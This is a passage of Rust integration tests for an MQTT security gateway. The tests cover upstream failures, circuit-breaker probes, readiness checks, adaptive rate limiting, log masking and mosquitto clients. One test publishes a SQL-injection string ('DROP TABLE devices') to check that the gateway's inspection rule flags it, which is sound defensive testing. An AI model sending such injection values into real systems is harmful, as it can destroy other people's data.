async fn an_upstream_that_closes_before_its_connack_gets_clients_server_unavailable_and_bans_nobody()
 {
    let upstream = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = upstream.local_addr().unwrap();
    let accepted = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&accepted);
    let closer = tokio::spawn(async move {
        loop {
            let Ok((mut s, _)) = upstream.accept().await else {
                return;
            };
            count.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                // The CONNECT, whole; then the socket is dropped: FIN, nothing unread.
                let _ = timeout(WAIT, read_packet(&mut s)).await;
            });
        }
    });
    let config = "[security]\nmax_rejections = 2\nban_by = [\"addr\"]\n";
    let gw = Gateway::start(
        "upstream-closed",
        config,
        &["--upstream", &addr.to_string()],
    )
    .await;
    const CLIENTS: usize = 7;
    for i in 0..CLIENTS {
        let s = connect_from("127.0.0.21", gw.mqtt).await;
        connect_gets_server_unavailable(s, i).await;
        // Each connection has ended, and been counted toward a ban or not, before the
        // next: the security layer's event is emitted at its end.
        let deadline = Instant::now() + WAIT;
        while upstream_closed_events(&gw).await.len() <= i {
            assert!(Instant::now() < deadline, "connect {i}: no security event");
            sleep(Duration::from_millis(20)).await;
        }
    }
    assert_eq!(
        accepted.load(Ordering::SeqCst),
        CLIENTS,
        "each CONNECT went upstream"
    );
    assert_eq!(
        gw.metric("aegis_rejections_total{layer=\"mqtt\",reason=\"upstream_closed\"}")
            .await,
        Some(CLIENTS as f64)
    );
    // Logged, with severity low: not counted.
    let events = upstream_closed_events(&gw).await;
    assert!(events.iter().all(|e| e["severity"] == "low"), "{events:?}");
    assert_eq!(
        http_get(gw.metrics, "/bans").await.unwrap(),
        (200, "[]".into())
    );
    assert_eq!(
        gw.metric("aegis_circuit_state{name=\"upstream\"}").await,
        Some(0.0),
        "the breaker counted the broker's end"
    );
    closer.abort();
}

/// An upstream that resets the connection before any CONNACK (it closed with the
/// CONNECT unread, or aborted it): the proxy's read of the upstream fails, and each
/// client still gets the gateway's "server unavailable" (3.1.1 CONNACK 0x03, 5.0 0x88),
/// counted as `upstream_closed` as for an end of stream; the circuit stays closed.
#[tokio::test]
async fn an_upstream_that_resets_before_its_connack_gets_clients_server_unavailable() {
    let upstream = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = upstream.local_addr().unwrap();
    let accepted = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&accepted);
    let resetter = tokio::spawn(async move {
        loop {
            let Ok((s, _)) = upstream.accept().await else {
                return;
            };
            count.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                // The CONNECT has arrived, left unread; a zero linger makes the close a
                // reset in any case.
                let mut peek = [0u8; 1];
                let _ = timeout(WAIT, s.peek(&mut peek)).await;
                s.set_zero_linger().unwrap();
            });
        }
    });
    let gw = Gateway::start("upstream-reset", "", &["--upstream", &addr.to_string()]).await;
    const CLIENTS: usize = 4;
    for i in 0..CLIENTS {
        let s = TcpStream::connect(gw.mqtt).await.unwrap();
        connect_gets_server_unavailable(s, i).await;
    }
    assert_eq!(
        accepted.load(Ordering::SeqCst),
        CLIENTS,
        "each CONNECT went upstream"
    );
    gw.wait_metric(
        "aegis_rejections_total{layer=\"mqtt\",reason=\"upstream_closed\"}",
        CLIENTS as f64,
    )
    .await;
    assert_eq!(
        gw.metric("aegis_rejections_total{layer=\"mqtt\",reason=\"upstream_closed\"}")
            .await,
        Some(CLIENTS as f64)
    );
    assert_eq!(
        gw.metric("aegis_circuit_state{name=\"upstream\"}").await,
        Some(0.0),
        "the breaker counted the broker's reset"
    );
    resetter.abort();
}

/// Client `i` (3.1.1 when even, 5.0 when odd) sends its CONNECT on `s`, and gets the
/// gateway's "server unavailable" (CONNACK 0x03, or 0x88), then the end.
async fn connect_gets_server_unavailable(mut s: TcpStream, i: usize) {
    let v5 = i % 2 == 1;
    let level = if v5 { 5 } else { 4 };
    s.write_all(&connect(level, &format!("unavailable-{i}"), 60))
        .await
        .unwrap();
    let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap();
    let answer = answer.unwrap_or_else(|e| panic!("connect {i}: no CONNACK ({e})"));
    let unavailable = if v5 {
        vec![0x00, 0x88, 0x00]
    } else {
        vec![0x00, 0x03]
    };
    assert_eq!(
        answer,
        (0x20, unavailable),
        "connect {i}: server unavailable"
    );
    assert!(
        closed_silently(&mut s).await,
        "connect {i}: more after the CONNACK"
    );
}

/// The security events of rule `upstream_closed` in `/events`.
async fn upstream_closed_events(gw: &Gateway) -> Vec<serde_json::Value> {
    let (status, events) = http_get(gw.metrics, "/events?limit=100").await.unwrap();
    assert_eq!(status, 200, "{events}");
    let events: serde_json::Value = serde_json::from_str(&events).unwrap();
    events
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["rule"] == "upstream_closed")
        .cloned()
        .collect()
}

/// With `mqtt.connack_timeout = "0s"` (no CONNACK timeout), an MQTT 5 client that leaves
/// an enhanced authentication (its FIN after the broker's AUTH challenge) is let go: the
/// broker, which waits for the client's answer, gets the FIN and closes; the client gets
/// nothing of the gateway's (no CONNACK, nothing counted as `upstream_closed`: it left),
/// and the gateway holds neither of the connection's sockets nor the client's place
/// under `limits.concurrent_per_ip`: a second client from the same address (`max = 1`)
/// is served. The client's EOF was held for a CONNACK timer that did not run: the broker
/// never got the FIN, and the gateway kept the client's socket (in CLOSE-WAIT), the
/// upstream one and the place for ever.
#[tokio::test]
async fn without_a_connack_timeout_a_client_leaving_an_enhanced_authentication_is_let_go() {
    let upstream = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = upstream.local_addr().unwrap();
    // The broker's AUTH "continue authentication" (0x18), method SCRAM-X.
    let props = [
        &[0x15][..],
        &common::string("SCRAM-X"),
        &[0x16, 0, 4],
        b"salt",
    ]
    .concat();
    let challenge = common::packet(
        0xF0,
        &[&[0x18][..], &common::packet(0, &props)[1..]].concat(),
    );
    // Each connection's CONNECT as the broker read it, whether the client's end came
    // (within WAIT), and what came before it.
    let (tx, mut ends) = tokio::sync::mpsc::unbounded_channel();
    let broker = {
        let challenge = challenge.clone();
        tokio::spawn(async move {
            loop {
                let Ok((mut s, _)) = upstream.accept().await else {
                    return;
                };
                let (tx, challenge) = (tx.clone(), challenge.clone());
                tokio::spawn(async move {
                    // The CONNECT, the challenge, then the wait for the client's answer;
                    // then the socket is dropped (FIN).
                    let connect = timeout(WAIT, read_packet(&mut s)).await;
                    s.write_all(&challenge).await.unwrap();
                    let mut rest = Vec::new();
                    let end = timeout(WAIT, s.read_to_end(&mut rest)).await;
                    let _ = tx.send((connect.ok().and_then(Result::ok), end.is_ok(), rest));
                });
            }
        })
    };
    let config = "[mqtt]\nconnack_timeout = \"0s\"\n[limits.concurrent_per_ip]\nmax = 1\n";
    let gw = Gateway::start("auth-leaving", config, &["--upstream", &addr.to_string()]).await;
    for i in 0..2 {
        let mut s = connect_from("127.0.0.31", gw.mqtt).await;
        let connect = connect_scram(&format!("leaving-{i}"));
        s.write_all(&connect).await.unwrap();
        let got = timeout(WAIT, read_packet(&mut s))
            .await
            .unwrap_or_else(|_| panic!("client {i}: no challenge"))
            .unwrap_or_else(|e| panic!("client {i}: no challenge ({e})"));
        assert_eq!(got, (0xF0, challenge[2..].to_vec()), "client {i}");
        // The client leaves.
        s.shutdown().await.unwrap();
        let (read, ended, rest) = timeout(WAIT * 2, ends.recv()).await.unwrap().unwrap();
        assert_eq!(read, Some((0x10, connect[2..].to_vec())), "client {i}");
        assert!(ended, "client {i}: the broker never got the client's FIN");
        assert_eq!(rest, b"", "client {i}");
        assert!(
            closed_silently(&mut s).await,
            "client {i}: more after the challenge"
        );
        // Its place is free for the next one.
        gw.wait_metric_below("aegis_active_connections", 1.0).await;
    }
    wait_connections(gw.pid(), 0).await;
    let upstream_closed = "aegis_rejections_total{layer=\"mqtt\",reason=\"upstream_closed\"}";
    assert_eq!(gw.metric(upstream_closed).await.unwrap_or(0.0), 0.0);
    broker.abort();
}

/// `/readyz` connects to the upstream at most once a second: ten requests in a row
/// cannot become ten connects to the broker. The upstream here is a listener the test
/// accepts from itself: each connect the gateway made is complete (in the listener's
/// queue) before its `/readyz` answers, so draining the queue counts them all.
#[tokio::test]
async fn readyz_requests_share_one_connect_to_the_upstream() {
    let upstream = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = upstream.local_addr().unwrap();
    // The connects waiting in the queue: accepts until one finds none.
    let drain = || async {
        let mut n = 0;
        while timeout(Duration::from_millis(200), upstream.accept())
            .await
            .is_ok()
        {
            n += 1;
        }
        n
    };
    let gw = Gateway::start("readyz-probe", "", &["--upstream", &addr.to_string()]).await;
    let start = Instant::now();
    for _ in 0..10 {
        let (status, body) = http_get(gw.metrics, "/readyz").await.unwrap();
        assert_eq!((status, body.as_str()), (200, "ready\n"));
    }
    let took = Instant::now().saturating_duration_since(start);
    let connects = drain().await;
    if took < Duration::from_secs(1) {
        assert_eq!(
            connects, 1,
            "{connects} connects for 10 requests in {took:?}"
        );
    } else {
        // A machine that stalled: one connect a second at most all the same.
        assert!(connects <= 1 + took.as_secs(), "{connects} in {took:?}");
    }
    // After a second the next request connects again, once.
    sleep(Duration::from_millis(1100)).await;
    assert_eq!(http_get(gw.metrics, "/readyz").await.unwrap().0, 200);
    assert_eq!(drain().await, 1);
}

/// `/readyz`'s connect to the upstream runs to its end, and its result is kept, when the
/// request that started it goes away: the next request within a second takes that
/// result at once. Before, the connect was dropped with the request and nothing was
/// kept, so each request behind it connected again, one after the other.
#[tokio::test]
async fn a_readiness_probe_keeps_its_result_when_its_request_goes_away() {
    // An upstream whose connects hang: its accept queue is full (never accepted), so the
    // kernel drops further SYNs.
    let socket = TcpSocket::new_v4().unwrap();
    socket.bind("127.0.0.1:0".parse().unwrap()).unwrap();
    let upstream = socket.listen(0).unwrap();
    let addr = upstream.local_addr().unwrap();
    let mut queued = Vec::new();
    while let Ok(Ok(s)) = timeout(Duration::from_millis(300), TcpStream::connect(addr)).await {
        queued.push(s);
        assert!(queued.len() < 8, "the upstream's connects do not hang");
    }
    let config = "[metrics]\nreadiness_timeout = \"2s\"\n";
    let gw = Gateway::start("readyz-gone", config, &["--upstream", &addr.to_string()]).await;
    let mut gone = TcpStream::connect(gw.metrics).await.unwrap();
    gone.write_all(b"GET /readyz HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
        .await
        .unwrap();
    let started = Instant::now();
    sleep(Duration::from_millis(300)).await;
    drop(gone);
    // The connect times out 2 s after it started; soon after, a request takes its result.
    tokio::time::sleep_until(started + Duration::from_millis(2300)).await;
    let asked = Instant::now();
    let (status, body) = http_get(gw.metrics, "/readyz").await.unwrap();
    let took = Instant::now().saturating_duration_since(asked);
    assert_eq!(
        (status, body.as_str()),
        (503, "not ready: upstream connect timed out\n")
    );
    assert!(
        took < Duration::from_secs(1),
        "{took:?}: the request connected again"
    );
    drop(queued);
}

/// The circuit breaker admits a connection when the gateway connects upstream, not when
/// the client's first bytes arrive: a client stalled in the middle of its CONNECT does
/// not hold the half-open probe, and the next client's CONNECT reaches the broker.
#[tokio::test]
async fn a_client_stalled_in_its_connect_does_not_hold_the_half_open_probe() {
    let (held, upstream) = dead_port(); // bound; it listens only once the broker is back
    let config = "[circuit_breaker]\nconsecutive_failures = 1\nopen_for = \"300ms\"\n";
    let gw = Gateway::start("probe", config, &["--upstream", &upstream.to_string()]).await;
    let mut opener = TcpStream::connect(gw.mqtt).await.unwrap();
    opener.write_all(&connect_311("opener")).await.unwrap();
    let answer = timeout(WAIT, read_packet(&mut opener)).await.unwrap();
    assert_eq!(
        answer.unwrap(),
        (0x20, vec![0x00, 0x03]),
        "server unavailable"
    );
    gw.wait_metric("aegis_circuit_state{name=\"upstream\"}", 2.0)
        .await;

    // The broker is back: it answers every CONNECT with CONNACK 0.
    let broker = held.listen(16).unwrap();
    tokio::spawn(async move {
        loop {
            let (mut c, _) = broker.accept().await.unwrap();
            tokio::spawn(async move {
                if read_packet(&mut c).await.is_ok() {
                    let _ = c.write_all(&[0x20, 0x02, 0x00, 0x00]).await;
                    let _ = c.read_to_end(&mut Vec::new()).await;
                }
            });
        }
    });
    // Past `open_for` (counted from before the circuit was seen open), the next
    // admission is the half-open probe.
    sleep(Duration::from_millis(400)).await;

    // All of a CONNECT but its last byte: the sniffer has seen MQTT, the MQTT layer
    // waits for the rest.
    let connect = connect_311("staller");
    let mut staller = TcpStream::connect(gw.mqtt).await.unwrap();
    staller
        .write_all(&connect[..connect.len() - 1])
        .await
        .unwrap();
    gw.wait_metric("aegis_sniff_total{protocol=\"mqtt\"}", 2.0)
        .await;

    let _next = accepted(gw.mqtt, "next", "the broker's CONNACK").await;
    drop(staller);
}

/// A half-open probe into a stalled broker (it takes connections, never answers) holds
/// its permit until the broker's first byte, its CONNACK timeout or its end: the other
/// clients arriving meanwhile get "server unavailable" from the circuit and none of them
/// reaches the broker. Before, the probe's successful connect gave its permit back at
/// once, and every one of them was let through to wait out its CONNACK timeout.
#[tokio::test]
async fn a_half_open_probe_into_a_stalled_broker_lets_no_other_client_through() {
    let broker = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let upstream = broker.local_addr().unwrap();
    let accepted = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&accepted);
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((c, _)) = broker.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            held.push(c); // read nothing, answer nothing
        }
    });
    let config = "[mqtt]\nconnack_timeout = \"1s\"\n\
                  [circuit_breaker]\nconsecutive_failures = 1\nopen_for = \"300ms\"\n\
                  [security]\nenabled = false\n";
    let gw = Gateway::start(
        "probe-stall",
        config,
        &["--upstream", &upstream.to_string()],
    )
    .await;

    // The first client's CONNACK timeout opens the circuit.
    let mut first = TcpStream::connect(gw.mqtt).await.unwrap();
    first.write_all(&connect_311("first")).await.unwrap();
    let answer = timeout(WAIT, read_packet(&mut first)).await.unwrap();
    assert_eq!(answer.unwrap(), (0x20, vec![0x00, 0x03]));
    gw.wait_metric("aegis_circuit_state{name=\"upstream\"}", 2.0)
        .await;
    assert_eq!(accepted.load(Ordering::SeqCst), 1);

    // Past `open_for` (counted from before the circuit was seen open), the next client
    // is the half-open probe; it reaches the broker.
    sleep(Duration::from_millis(400)).await;
    let mut probe = TcpStream::connect(gw.mqtt).await.unwrap();
    probe.write_all(&connect_311("probe")).await.unwrap();
    let deadline = Instant::now() + WAIT;
    while accepted.load(Ordering::SeqCst) < 2 {
        assert!(
            Instant::now() < deadline,
            "the probe never reached the broker"
        );
        sleep(Duration::from_millis(10)).await;
    }

    // The others are refused by the circuit (or, once the probe's CONNACK timeout has
    // re-opened it, by the open circuit): none reaches the broker.
    for n in 0..3 {
        let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
        s.write_all(&connect_311(&format!("other{n}")))
            .await
            .unwrap();
        let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap();
        assert_eq!(answer.unwrap(), (0x20, vec![0x00, 0x03]), "client {n}");
    }
    assert_eq!(
        accepted.load(Ordering::SeqCst),
        2,
        "only the probe reached the broker"
    );
    let answer = timeout(WAIT, read_packet(&mut probe)).await.unwrap();
    assert_eq!(
        answer.unwrap(),
        (0x20, vec![0x00, 0x03]),
        "the probe timed out"
    );
}

/// With `open_for` shorter than the CONNACK timeout, a half-open probe into a broker
/// that answers slowly but within the CONNACK timeout closes the circuit. The probe's
/// time limit was `open_for` (the breaker's default): the broker's CONNACK, its success,
/// came after it, the probe counted as failed and the circuit re-opened, every time, so
/// it never closed (a reviewer's live run: transitions to open 7, half-open 6).
#[tokio::test]
async fn a_slow_brokers_probe_closes_the_circuit_when_open_for_is_under_the_connack_timeout() {
    const SLOW: Duration = Duration::from_millis(600);
    let broker = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let upstream = broker.local_addr().unwrap();
    tokio::spawn(async move {
        let mut first = None;
        while let Ok((mut c, _)) = broker.accept().await {
            if first.is_none() {
                first = Some(c); // the first connection stalls: its timeout opens the circuit
                continue;
            }
            tokio::spawn(async move {
                let mut buf = [0u8; 256];
                if c.read(&mut buf).await.unwrap_or(0) == 0 {
                    return;
                }
                sleep(SLOW).await; // slower than `open_for`, within the CONNACK timeout
                let _ = c.write_all(&[0x20, 0x02, 0x00, 0x00]).await;
                let _ = c.read(&mut buf).await; // until the client goes
            });
        }
    });
    let config = "[mqtt]\nconnack_timeout = \"1s\"\n\
                  [circuit_breaker]\nconsecutive_failures = 1\nopen_for = \"300ms\"\n\
                  [security]\nenabled = false\n";
    let gw = Gateway::start("probe-slow", config, &["--upstream", &upstream.to_string()]).await;

    let mut first = TcpStream::connect(gw.mqtt).await.unwrap();
    first.write_all(&connect_311("first")).await.unwrap();
    let answer = timeout(WAIT, read_packet(&mut first)).await.unwrap();
    assert_eq!(answer.unwrap(), (0x20, vec![0x00, 0x03]));
    gw.wait_metric("aegis_circuit_state{name=\"upstream\"}", 2.0)
        .await;

    // Past `open_for`, the probe: the broker accepts it after SLOW.
    sleep(Duration::from_millis(400)).await;
    let _probe = accepted(gw.mqtt, "probe", "the probe").await;
    // Its CONNACK closed the circuit (0; half-open is 1, open 2), and the next client
    // reaches the broker too.
    gw.wait_metric_below("aegis_circuit_state{name=\"upstream\"}", 0.5)
        .await;
    let _next = accepted(gw.mqtt, "next", "the client after the probe").await;
}

/// A 3.1.1 client `id` connects to `addr` and is accepted (CONNACK 0x00; `what` names it
/// in the failure); its connection, still open.
async fn accepted(addr: SocketAddr, id: &str, what: &str) -> TcpStream {
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(&connect_311(id)).await.unwrap();
    let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap();
    assert_eq!(answer.unwrap(), (0x20, vec![0x00, 0x00]), "{what}");
    s
}

/// A PROXY protocol v1 line naming `client` (port 40000) as the peer of `to`.
fn proxy_v1(client: &str, to: SocketAddr) -> Vec<u8> {
    format!("PROXY TCP4 {client} {} 40000 {}\r\n", to.ip(), to.port()).into_bytes()
}

/// The adaptive controller sees a stalled broker (it takes the connections, never
/// answers a CONNECT): each CONNACK timeout is a sample of the timeout's length, over
/// the threshold, and the rate comes down. Without those samples there were none at
/// all, and the rate held at its maximum for as long as the stall lasted.
#[tokio::test]
async fn a_stalled_broker_lowers_the_adaptive_rate() {
    let broker = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let upstream = broker.local_addr().unwrap();
    tokio::spawn(async move {
        let mut held = Vec::new();
        while let Ok((c, _)) = broker.accept().await {
            held.push(c); // read nothing, answer nothing
        }
    });
    let config = "[mqtt]\nconnack_timeout = \"200ms\"\n\
                  [circuit_breaker]\nenabled = false\n\
                  [security]\nenabled = false\n\
                  [adaptive]\nenabled = true\nthreshold = \"100ms\"\n\
                  interval = \"100ms\"\nmin_samples = 1\n";
    let gw = Gateway::start(
        "stalled-adaptive",
        config,
        &["--upstream", &upstream.to_string()],
    )
    .await;
    let rate = "aegis_adaptive_rate{name=\"upstream\"}";
    assert_eq!(gw.metric(rate).await, Some(1000.0), "it starts at max_rate");

    let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
    s.write_all(&connect_311("stalled")).await.unwrap();
    let answer = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
    assert_eq!(
        answer,
        (0x20, vec![0x00, 0x03]),
        "the gateway's own server unavailable"
    );
    gw.wait_metric_below(rate, 1000.0).await;
    let p95 = gw
        .metric("aegis_adaptive_p95_seconds{name=\"upstream\"}")
        .await
        .unwrap();
    assert!(
        (0.19..0.21).contains(&p95),
        "the sample is the timeout: {p95}"
    );
}

/// Without the MQTT layer the controller times the upstream connect: a refused connect
/// (well under a millisecond) is no sample, or a failing upstream would look fast.
#[tokio::test]
async fn refused_upstream_connects_are_no_adaptive_samples() {
    let (_held, dead) = dead_port(); // bound, nothing listens there
    let config = "[mqtt]\nenabled = false\n[slowloris]\nenabled = false\n\
                  [circuit_breaker]\nenabled = false\n\
                  [security]\nenabled = false\n\
                  [adaptive]\nenabled = true\ninterval = \"50ms\"\nmin_samples = 1\n";
    let gw = Gateway::start(
        "refused-adaptive",
        config,
        &["--upstream", &dead.to_string()],
    )
    .await;
    for _ in 0..3 {
        let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
        s.write_all(&connect_311("refused")).await.unwrap();
        let mut rest = Vec::new();
        let _ = timeout(WAIT, s.read_to_end(&mut rest)).await.unwrap();
    }
    gw.wait_metric(
        "aegis_upstream_errors_total{reason=\"connect_refused\"}",
        3.0,
    )
    .await;
    // Two decisions after the last refusal: every window that could hold one is closed.
    let holds = "aegis_adaptive_decisions_total{name=\"upstream\",direction=\"hold\"}";
    let now = gw.metric(holds).await.unwrap_or(0.0);
    gw.wait_metric(holds, now + 2.0).await;
    assert_eq!(
        gw.metric("aegis_adaptive_p95_seconds{name=\"upstream\"}")
            .await,
        None,
        "no sample, no P95"
    );
}

/// `log.mask_client_addresses` at `log.level = "debug"` (no `RUST_LOG`): the gateway's
/// debug lines name a client by its /24 only, and no line names its whole address,
/// not those of the libraries either (`aegis_core`'s `conn{peer=...}` span and its
/// rejections, `aegis_mqtt`'s inspection match), in plain and JSON logs.
#[tokio::test]
async fn masked_client_addresses_stay_masked_at_debug_level() {
    for format in ["plain", "json"] {
        let config = format!(
            "[log]\nformat = \"{format}\"\nlevel = \"debug\"\nmask_client_addresses = true\n"
        );
        let debug = Launch {
            rust_log: None,
            ..Launch::default()
        };
        let gw = Gateway::start_with("mask-debug", &config, &[], debug).await;
        // A session that publishes a message the default rules flag, then leaves.
        let mut s = mqtt_session("127.0.17.9", gw.mqtt, "masked").await.unwrap();
        s.write_all(&publish_0("t", b"42; DROP TABLE devices"))
            .await
            .unwrap();
        gw.wait_metric(
            "aegis_mqtt_inspection_total{rule=\"sql_injection\",action=\"flag\"}",
            1.0,
        )
        .await;
        s.write_all(&[0xE0, 0x00]).await.unwrap();
        drop(s);
        // A connection the sniffer rejects.
        let mut g = connect_from("127.0.17.9", gw.mqtt).await;
        g.write_all(b"\xff\xfe garbage").await.unwrap();
        assert!(closed_silently(&mut g).await);
        gw.wait_metric("aegis_connections_total{outcome=\"rejected\"}", 1.0)
            .await;
        gw.wait_log("127.0.17.0/24").await;
        let log = gw.log();
        assert!(log.contains("DEBUG"), "{format}: no debug line:\n{log}");
        assert!(
            !log.contains("127.0.17.9"),
            "{format}: a whole address:\n{log}"
        );
    }
}

#[tokio::test]
async fn every_layer_on_carries_a_session_and_logs_json() {
    let config = r#"
        [log]
        format = "json"
        [proxy_protocol]
        enabled = true
        trusted = ["127.0.0.0/8"]
        mode = "optional"
        [limits.global]
        rate = "100/s"
        burst = 100
        [limits.connect_per_ip]
        rate = "10/m"
        burst = 5
        [limits.publish_per_client]
        rate = "10/s"
        burst = 10
        [slowloris]
        idle = "2s"
        min_rate_bytes_per_sec = 10
        idle_after_handshake = "60s"
        [sniff]
        http = "bad_request"
        [mqtt]
        enforce_keep_alive = true
        max_keep_alive = "600s"
        [mqtt.packet_rate]
        enabled = true
        [circuit_breaker.failure_rate]
        enabled = true
        [adaptive]
        enabled = true
        interval = "200ms"
        min_samples = 1
    "#;
    let gw = Gateway::start("all-layers", config, &[]).await;
    let listening = gw
        .log()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .find(|v| v["message"] == "mqtt-gateway listening")
        .unwrap_or_else(|| panic!("no JSON start-up line:\n{}", gw.log()));
    assert_eq!(
        listening["layers"],
        "proxy_protocol -> security -> rate_limit -> slowloris -> sniff -> mqtt+policy -> inspect -> circuit_breaker -> adaptive"
    );

    // A balancer's PROXY header, then a session: CONNACK, PINGREQ / PINGRESP.
    let mut s = TcpStream::connect(gw.mqtt).await.unwrap();
    s.write_all(&[proxy_v1("203.0.113.9", gw.mqtt), connect_311("all-on")].concat())
        .await
        .unwrap();
    let connack = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
    assert_eq!(connack, (0x20, vec![0x00, 0x00]));
    s.write_all(&[0xC0, 0x00]).await.unwrap();
    let pong = timeout(WAIT, read_packet(&mut s)).await.unwrap().unwrap();
    assert_eq!(pong, (0xD0, vec![]));
    gw.wait_metric(
        "aegis_proxy_protocol_connections_total{outcome=\"proxied_v1\"}",
        1.0,
    )
    .await;

    // HTTP gets a 400 from the bounded refuser.
    let mut http = TcpStream::connect(gw.mqtt).await.unwrap();
    http.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut answer = String::new();
    timeout(WAIT, http.read_to_string(&mut answer))
        .await
        .unwrap()
        .unwrap();
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");

    // The adaptive controller started at its max rate, and the session's CONNECT to
    // CONNACK round trip gave it a P95 (the gauge is unset until a window has samples).
    gw.wait_metric("aegis_adaptive_rate{name=\"upstream\"}", 1000.0)
        .await;
    gw.wait_metric("aegis_adaptive_p95_seconds{name=\"upstream\"}", 0.0)
        .await;
}

// ---------------------------------------------------------------------------------
// The Debian clients: mosquitto_sub and mosquitto_pub
// ---------------------------------------------------------------------------------

const MOSQUITTO_SUB: &str = "/usr/bin/mosquitto_sub";
const MOSQUITTO_PUB: &str = "/usr/bin/mosquitto_pub";

/// A mosquitto client process, its stdout piped and its stderr in a file; killed and
/// waited for when dropped.
struct CliClient {
    child: Child,
    stderr: PathBuf,
}

impl CliClient {
    /// Starts `program args`; `name` tells its stderr file apart.
    fn spawn(name: &str, program: &str, args: &[&str]) -> Self {
        for bin in [MOSQUITTO_SUB, MOSQUITTO_PUB] {
            assert!(
                Path::new(bin).exists(),
                "{bin} is missing: install mosquitto-clients \
                 (apt-get install -y mosquitto-clients, as .ci/run does)"
            );
        }
        let stderr = std::env::temp_dir().join(format!(
            "aegis-mqtt-gateway-{name}-{}.stderr",
            std::process::id()
        ));
        let child = Command::new(program)
            .args(args)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(std::fs::File::create(&stderr).unwrap())
            .spawn()
            .unwrap_or_else(|e| panic!("cannot start {program}: {e}"));
        Self { child, stderr }
    }

    fn stderr(&self) -> String {
        std::fs::read_to_string(&self.stderr).unwrap_or_default()
    }

    /// Waits (bounded by `within`) for the process to exit by itself.
    async fn exit_within(&mut self, within: Duration) -> Option<ExitStatus> {
        let deadline = Instant::now() + within;
        loop {
            if let Some(status) = self.child.try_wait().unwrap() {
                return Some(status);
            }
            if Instant::now() >= deadline {
                return None;
            }
            sleep(Duration::from_millis(20)).await;
        }
    }
}

impl Drop for CliClient {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = std::fs::remove_file(&self.stderr);
    }
}

/// Runs `mosquitto_pub` to its exit (bounded): it must exit 0.
async fn mosquitto_pub(name: &str, args: &[&str]) {
    let mut publ = CliClient::spawn(name, MOSQUITTO_PUB, args);
    let status = publ.exit_within(WAIT).await;
    assert!(
        status.is_some_and(|s| s.success()),
        "mosquitto_pub {args:?}: {status:?} (None: still running after {WAIT:?}); \
         stderr:\n{}",
        publ.stderr()
    );
}

/// Issue 6: the Debian clients through the gateway to mosquitto. `mosquitto_sub`
/// (MQTT 5, `QoS` 1, `-C 2`) receives one message from a 3.1.1 `mosquitto_pub` at
/// `QoS` 1 and one from an MQTT 5 `mosquitto_pub` at `QoS` 2, prints both and exits 0.
#[tokio::test]
async fn mosquitto_sub_and_pub_through_the_gateway_to_mosquitto() {
    let broker = Mosquitto::start().await;
    let upstream = broker.addr().to_string();
    let gw = Gateway::start("mosquitto-clients", "", &["--upstream", &upstream]).await;
    let port = gw.mqtt.port().to_string();
    let topic = "gateway/mosquitto-clients";

    // `-d` prints the packets it sends and receives; stdbuf makes its stdout (a pipe
    // here, fully buffered by default) line-buffered, so "received SUBACK" arrives
    // when it happens, not with the first message.
    let sub_args = [
        "-oL",
        MOSQUITTO_SUB,
        "-h",
        "127.0.0.1",
        "-p",
        &port,
        "-t",
        topic,
        "-C",
        "2",
        "-q",
        "1",
        "-V",
        "mqttv5",
        "-d",
    ];
    let mut sub = CliClient::spawn("mosquitto-sub", "stdbuf", &sub_args);
    let stdout = sub.child.stdout.take().unwrap();
    let (tx, mut lines) = tokio::sync::mpsc::unbounded_channel();
    // Ends at EOF: when mosquitto_sub exits or is killed.
    std::thread::spawn(move || {
        use std::io::BufRead;
        for line in std::io::BufReader::new(stdout).lines() {
            let Ok(line) = line else { break };
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    let mut seen: Vec<String> = Vec::new();
    let deadline = Instant::now() + WAIT;
    while !seen.iter().any(|l| l.contains("received SUBACK")) {
        let left = deadline.saturating_duration_since(Instant::now());
        match timeout(left, lines.recv()).await {
            Ok(Some(line)) => seen.push(line),
            Ok(None) | Err(_) => panic!(
                "mosquitto_sub did not report a SUBACK within {WAIT:?} (exit: {:?}); \
                 stdout:\n{}\nstderr:\n{}",
                sub.child.try_wait(),
                seen.join("\n"),
                sub.stderr()
            ),
        }
    }

    let (v311, v5) = (
        "from mosquitto_pub, MQTT 3.1.1, QoS 1",
        "from mosquitto_pub, MQTT 5, QoS 2",
    );
    let common = ["-h", "127.0.0.1", "-p", &port, "-t", topic];
    mosquitto_pub(
        "mosquitto-pub-311",
        &[&common[..], &["-m", v311, "-q", "1", "-V", "mqttv311"]].concat(),
    )
    .await;
    mosquitto_pub(
        "mosquitto-pub-5",
        &[&common[..], &["-m", v5, "-q", "2", "-V", "mqttv5"]].concat(),
    )
    .await;

    // Two messages (-C 2): mosquitto_sub exits by itself.
    let status = sub.exit_within(WAIT).await;
    if status.is_none() {
        let _ = sub.child.kill();
        let _ = sub.child.wait();
    }
    // The reader thread sees EOF once the process is gone: take what it read.
